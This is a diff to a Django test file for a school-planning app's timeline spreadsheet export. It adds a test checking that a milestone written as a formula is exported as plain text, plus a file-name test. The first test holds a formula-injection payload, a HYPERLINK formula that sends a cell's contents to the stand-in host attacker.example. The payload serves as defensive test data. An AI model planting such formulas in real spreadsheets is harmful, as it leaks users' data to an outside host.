@@ -1,4 +1,5 @@
 import datetime as dt
+import io
 from pathlib import Path
 
 import pytest
@@ -272,6 +273,27 @@ def test_plan_detail_for_its_office(client, plan, staff_user):
     response = client.get(reverse("schedules:plan-detail", args=[plan.pk]))
 
     assert (response.status_code, response.context["can_edit"], response.context["can_issue"]) == (200, True, True)
+
+
+def test_timeline_export_writes_a_milestone_that_looks_like_a_formula_as_text(client, plan, staff_user):
+    from openpyxl import load_workbook
+
+    formula = '=HYPERLINK("http://attacker.example/?d="&B3,"Mở")'
+    services.import_timeline(plan=plan, by=staff_user, text=f"1.\t{formula}\tNgày 15/8/2024\tPhòng GDĐT\n")
+    client.force_login(staff_user)
+
+    response = client.get(reverse("schedules:plan-timeline-xlsx", args=[plan.pk]))
+
+    cell = load_workbook(io.BytesIO(response.content)).active["B2"]
+    assert (cell.data_type, cell.value) == ("s", formula)
+
+
+def test_timeline_export_of_a_draft_is_named_after_the_plan_and_its_period(client, plan, staff_user):
+    client.force_login(staff_user)
+
+    response = client.get(reverse("schedules:plan-timeline-xlsx", args=[plan.pk]))
+
+    assert response["Content-Disposition"] == f'attachment; filename="khung-thoi-gian-du-thao-{plan.pk}-2023-2024.xlsx"'
 
 
 def test_milestone_fix_clears_the_flag(client, plan, staff_user, dau_tieng):
